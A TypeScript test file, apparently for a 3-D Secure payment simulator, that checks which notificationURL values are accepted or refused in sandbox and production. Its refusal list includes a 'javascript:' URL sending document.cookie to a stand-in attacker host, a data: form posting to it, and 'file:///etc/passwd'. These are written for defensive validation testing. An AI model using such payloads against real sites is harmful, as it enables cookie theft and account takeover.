// The AReq's notificationURL (decisions §14.4, docs/3ds.md "The challenge page"): the challenge page
// posts the CRes there, so it must not hand the result to a script or to whoever is on a network's
// path. https always; plain http only in the sandbox and only to a loopback host (or the sandbox's
// own public origin, where its stand-in 3DS Server is); `javascript:`, `data:` and the rest never.
// Each refusal is an Erro 203 naming the element, sent by the DS simulator over HTTP.
import assert from 'node:assert/strict';
import { it } from 'node:test';
import { randomStr } from '../helpers/app.js';
import { eachDialect } from '../helpers/dialects.js';
import { acs, card, notifyTo } from './helpers/acs.js';
import { areq, detailElements, erroProblems, send } from './helpers/ds.js';

const PAN = '4242424242424242';

async function answer(url: string, notificationURL: string) {
  const res = await send(url, areq({ pan: PAN, expiry: '3012', notificationURL }));
  assert.equal(res.status, 200);
  return res.json ?? {};
}

async function refused(url: string, notificationURL: string) {
  const erro = await answer(url, notificationURL);
  assert.equal(erro.messageType, 'Erro', `${notificationURL} refused: ${JSON.stringify(erro)}`);
  assert.deepEqual(erroProblems(erro), []);
  assert.equal(erro.errorCode, '203', notificationURL);
  assert.deepEqual(detailElements(erro), ['notificationURL'], notificationURL);
}

async function accepted(url: string, notificationURL: string) {
  const ares = await answer(url, notificationURL);
  assert.equal(ares.messageType, 'ARes', `${notificationURL} accepted: ${JSON.stringify(ares)}`);
}

const NEVER = [
  'javascript:alert(1)',
  'JavaScript:fetch("https://evil.example/"+document.cookie)',
  'data:text/html,<form method=post action=https://evil.example>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'ftp://3dss.example.org/notify',
  'blob:https://3dss.example.org/0c4a',
  'about:blank',
  'not a url',
  'https://',
  '//3dss.example.org/notify',
];

eachDialect('3-D Secure: the AReq’s notificationURL', (dialect) => {
  it('sandbox: https anywhere; plain http only to a loopback host or the service’s own origin; script and other schemes refused (Erro 203 notificationURL)', async (t) => {
    const { h, url } = await acs(t, dialect, { publicUrl: 'http://cards.sandbox.example:8080' });
    for (const ok of [
      'https://3dss.example.org/notify',
      'http://127.0.0.1:9000/notify',
      'http://127.23.0.9/notify',
      'http://localhost:8443/notify?x=1',
      'http://LOCALHOST./notify',
      'http://shop.localhost:3000/notify',
      'http://[::1]:9000/notify',
      'http://cards.sandbox.example:8080/sandbox/3ds/notification',
    ]) {
      await accepted(url, ok);
    }
    for (const bad of [
      ...NEVER,
      'http://3dss.example.org/notify',
      'http://192.168.1.10:8080/notify',
      'http://10.0.0.1/notify',
      'http://0.0.0.0:8080/notify',
      'http://localhost.evil.example/notify',
      'http://127.0.0.1.nip.io/notify',
      'http://cards.sandbox.example:8081/notify',
    ]) {
      await refused(url, bad);
    }
    // The sandbox's own DS names its own page on a plain-http public URL that is not loopback: still accepted.
    await notifyTo(t, h);
    const c = await card(h);
    const res = await h.call('/sandbox/3ds/authenticate', { cardId: c.cardId, amount: 40, challengeInd: '04', randomStr: randomStr() });
    assert.equal(res.status, 200, JSON.stringify(res.body));
    assert.equal(res.body.model.ares.transStatus, 'C');
  });

  it('production: https only; plain http refused even to a loopback host; script and other schemes refused', async (t) => {
    const { url } = await acs(t, dialect, { env: 'production' });
    await accepted(url, 'https://3dss.example.org/notify');
    await accepted(url, 'https://127.0.0.1:9443/notify');
    for (const bad of [
      ...NEVER,
      'http://3dss.example.org/notify',
      'http://127.0.0.1:9000/notify',
      'http://localhost/notify',
      'http://[::1]/notify',
      'http://127.0.0.1:8080/sandbox/3ds/notification',
    ]) {
      await refused(url, bad);
    }
  });
});
